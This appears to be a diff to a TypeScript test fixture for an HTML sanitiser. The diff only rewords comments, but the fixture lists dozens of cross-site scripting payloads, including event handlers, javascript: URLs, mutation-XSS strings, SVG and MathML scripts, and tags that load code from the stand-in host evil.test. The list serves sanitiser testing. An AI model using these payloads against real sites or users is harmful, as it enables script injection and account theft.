@@ -1,7 +1,7 @@
 /**
- * HTML that wants to run, load or cover something. Each says `ran(…)` or leads to `evil.test` if it succeeds. After the OWASP
- * cheat sheets "XSS Filter Evasion", "DOM Clobbering Prevention" and "Cross Site Scripting Prevention", and the published
- * mutations of HTML sanitisers.
+ * HTML that tries to run, load or cover something. Each calls `ran(…)` or loads from `evil.test` if it succeeds. From
+ * the OWASP cheat sheets "XSS Filter Evasion", "DOM Clobbering Prevention" and "Cross Site Scripting Prevention", and
+ * published mutation XSS attacks on HTML sanitisers.
  */
 export const attacks: Record<string, string> = {
   // Scripts
@@ -17,7 +17,7 @@ export const attacks: Record<string, string> = {
   "script of another type": '<script type="module">ran(1)</script>',
   "script as text of entities": "&lt;script&gt;ran(1)&lt;/script&gt;",
 
-  // Handlers
+  // Event handlers
   "image that fails": "<img src=x onerror=ran(1)>",
   "image that fails, quoted by graves": "<img src=`x` onerror=`ran(1)`>",
   "image that fails, without a space": '<img/src="x"/onerror=ran(1)>',
@@ -39,7 +39,7 @@ export const attacks: Record<string, string> = {
   "popover that runs when it opens":
     "<button popovertarget=x>o</button><p popover id=x onbeforetoggle=ran(1)>x</p>",
 
-  // Addresses that run
+  // URLs that run scripts
   "javascript address": '<a href="javascript:ran(1)">x</a>',
   "javascript in mixed case": '<a href="JaVaScRiPt:ran(1)">x</a>',
   "javascript with a tab": '<a href="jav\tascript:ran(1)">x</a>',
@@ -63,7 +63,7 @@ export const attacks: Record<string, string> = {
   "address with backslashes": '<a href="\\\\evil.test/x">x</a><a href="/\\evil.test">x</a>',
   "address in xlink": '<svg><a xlink:href="javascript:ran(1)"><text y=20>x</text></a></svg>',
 
-  // Foreign frames and plug-ins
+  // Frames and plug-ins
   "frame with a script": '<iframe src="javascript:ran(1)"></iframe>',
   "frame with its own document": '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
   "frame that is never closed": "<iframe src=https://evil.test/x <",
@@ -73,7 +73,7 @@ export const attacks: Record<string, string> = {
   applet: '<applet code="https://evil.test/x.class"></applet>',
   portal: '<portal src="https://evil.test"></portal>',
 
-  // Other languages within HTML
+  // Embedded SVG and MathML
   "svg that loads": "<svg onload=ran(1)></svg>",
   "svg with a script": "<svg><script>ran(1)</script></svg>",
   "svg with a script in entities": "<svg><script>&#114;an(1)</script></svg>",
@@ -85,7 +85,7 @@ export const attacks: Record<string, string> = {
   "math with an address":
     '<math><maction actiontype=statusline xlink:href="javascript:ran(1)">x</maction></math>',
 
-  // What becomes something else when it is parsed twice
+  // Mutations when parsed twice
   "style within svg": '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
   "style within math":
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
@@ -103,7 +103,7 @@ export const attacks: Record<string, string> = {
   "raw text: select": "<select><style></select><img src=x onerror=ran(1)></style>",
   "tables that throw out": "<table><a href='javascript:ran(1)'><tr><td><img src=x onerror=ran(1)></table>",
 
-  // Comments and other declarations
+  // Comments and declarations
   "comment that ends early": "<!--><img src=x onerror=ran(1)>-->",
   "comment that ends with a bang": "<!-- --!><img src=x onerror=ran(1)> -->",
   "comment with a tag within": '<!--<img src="--><img src=x onerror=ran(1)//">',
@@ -124,7 +124,7 @@ export const attacks: Record<string, string> = {
     '<table background="javascript:ran(1)"><td background="https://evil.test/x.png">x</table>',
   "style sheet": '<link rel=stylesheet href="https://evil.test/x.css">',
 
-  // What changes or leaves the page
+  // Changing or leaving the page
   base: '<base href="https://evil.test/"><a href="/x">x</a>',
   refresh: '<meta http-equiv=refresh content="0;url=javascript:ran(1)">',
   "refresh elsewhere": '<meta http-equiv=refresh content="0;url=https://evil.test/">',
@@ -149,7 +149,7 @@ export const attacks: Record<string, string> = {
   "rules of speculation":
     '<script type="speculationrules">{"prerender":[{"urls":["https://evil.test"]}]}</script>',
 
-  // Letters and lengths
+  // Characters and lengths
   "tag that is never closed": "<img src=x onerror=ran(1) ",
   "quote that is never closed": '<a href="https://evil.test',
   "letters of full width": "＜script＞ran(1)＜/script＞",
